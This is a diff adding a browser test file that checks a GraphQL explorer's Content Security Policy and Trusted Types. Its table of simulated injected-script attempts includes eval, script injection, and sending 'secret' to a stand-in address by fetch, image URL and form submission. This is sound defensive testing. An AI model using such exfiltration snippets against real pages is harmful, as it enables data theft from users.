@@ -1,0 +1,168 @@
+import { expect, test } from './support/test.ts';
+
+/** An address that nobody listens on, of an origin that no page of ours may contact. */
+const ELSEWHERE = 'http://127.0.0.1:9/elsewhere';
+
+/** Attempts of a script that got into the page; each gives 'stopped', or it throws. */
+const ATTEMPTS: Record<string, (elsewhere: string) => Promise<string> | string> = {
+  // Later, since the debugger that runs this lifts the ban on eval for as long as it does.
+  'to run text by eval': () =>
+    new Promise((resolve) => {
+      const evaluate = Reflect.get(globalThis, 'eval') as (text: string) => number;
+      setTimeout(() => {
+        try {
+          resolve(String(evaluate('1 + 1')));
+        } catch {
+          resolve('stopped');
+        }
+      });
+    }),
+  'to add a script of its own text': () => {
+    const script = document.createElement('script');
+    try {
+      script.text = 'globalThis.ran = true';
+      document.body.append(script);
+    } catch {
+      return 'stopped';
+    }
+    return Reflect.has(globalThis, 'ran') ? 'ran' : 'stopped';
+  },
+  'to load a script of another origin': (elsewhere) => {
+    const script = document.createElement('script');
+    try {
+      script.src = elsewhere;
+      return 'set';
+    } catch {
+      return 'stopped';
+    }
+  },
+  'to start a worker of another folder': () => {
+    try {
+      return typeof new Worker('/healthz');
+    } catch {
+      return 'stopped';
+    }
+  },
+  'to put HTML into the document': () => {
+    try {
+      document.body.innerHTML = '<p>in</p>';
+      return 'in';
+    } catch {
+      return 'stopped';
+    }
+  },
+  'to send something to another origin': (elsewhere) =>
+    fetch(elsewhere, { method: 'POST', body: 'secret', mode: 'no-cors' }).then(
+      () => 'sent',
+      () => 'stopped',
+    ),
+  'to send something as the address of an image': (elsewhere) =>
+    new Promise((resolve) => {
+      document.addEventListener('securitypolicyviolation', () => resolve('stopped'));
+      new Image().src = `${elsewhere}?secret`;
+    }),
+  'to submit a form': (elsewhere) =>
+    new Promise((resolve) => {
+      const form = document.createElement('form');
+      document.addEventListener('securitypolicyviolation', () => resolve('stopped'));
+      form.action = elsewhere;
+      document.body.append(form);
+      form.submit();
+    }),
+  'to move the addresses of the page': (elsewhere) => {
+    const base = document.createElement('base');
+    base.href = elsewhere;
+    document.head.append(base);
+    return document.baseURI.startsWith(elsewhere) ? 'moved' : 'stopped';
+  },
+};
+
+for (const [attempt, body] of Object.entries(ATTEMPTS)) {
+  test(`the page’s policy stops an attempt ${attempt}`, async ({ explorer, guard, page }) => {
+    guard.expectFaults(/policy|trusted/i, /127\.0\.0\.1:9\/elsewhere/);
+    await explorer.open();
+    expect(await page.evaluate(body, ELSEWHERE)).toBe('stopped');
+    expect(page.url()).toBe(explorer.url);
+  });
+}
+
+test('once the explorer is up, no Trusted Types policy is left to be made', async ({
+  explorer,
+  guard,
+  page,
+  request,
+  user,
+}) => {
+  const answer = await request.get(explorer.url);
+  const [, names = ''] = /trusted-types ([^;]+)/.exec(
+    answer.headers()['content-security-policy'] ?? '',
+  ) ?? [''];
+  await explorer.open();
+  await explorer.signIn(user);
+  await explorer.openPanel('Documentation Explorer');
+  await expect(page.locator('.graphiql-markdown-description').first()).toBeVisible();
+  await explorer.write('query Q { continents { name } }');
+  await explorer.editor.locator('.view-line span').getByText('continents').last().hover();
+  await expect(page.locator('.monaco-hover').filter({ visible: true })).toContainText('Continent');
+
+  guard.expectFaults(/trusted-types|trusted types/i);
+  const made = await page.evaluate(
+    (all) => {
+      const { trustedTypes } = globalThis as unknown as {
+        trustedTypes: { createPolicy: (name: string, rules: object) => unknown };
+      };
+      return all.filter((name) => {
+        try {
+          return trustedTypes.createPolicy(name, {});
+        } catch {
+          return false;
+        }
+      });
+    },
+    [...names.split(' '), 'another'],
+  );
+  expect(names.split(' ')).toContain('default');
+  expect(made).toEqual([]);
+});
+
+test('the token worker reaches its own origin and the token service alone', async ({
+  context,
+  explorer,
+  guard,
+  service,
+}) => {
+  guard.expectFaults(/policy|violates/i, /127\.0\.0\.1:9\/elsewhere/);
+  const started = context.waitForEvent('serviceworker');
+  await explorer.open();
+  const worker = await started;
+  const reach = (url: string) =>
+    worker.evaluate(
+      (address) =>
+        fetch(address, { mode: 'no-cors' }).then(
+          () => 'reached',
+          () => 'stopped',
+        ),
+      url,
+    );
+  expect(await reach(ELSEWHERE)).toBe('stopped');
+  expect(await reach(`${explorer.url}config.json`)).toBe('reached');
+  expect(await reach(`${service.authOrigin}/healthz`)).toBe('reached');
+});
+
+test('Monaco’s workers reach nothing', async ({ explorer, guard, page, user }) => {
+  guard.expectFaults(/policy|violates/i);
+  await explorer.open();
+  await explorer.signIn(user);
+  await expect.poll(() => page.workers().length).toBeGreaterThan(0);
+  for (const worker of page.workers()) {
+    const reached = worker.evaluate(
+      (url) =>
+        fetch(url).then(
+          () => 'reached',
+          () => 'stopped',
+        ),
+      `${explorer.url}config.json`,
+    );
+    expect(await reached, worker.url()).toBe('stopped');
+  }
+});
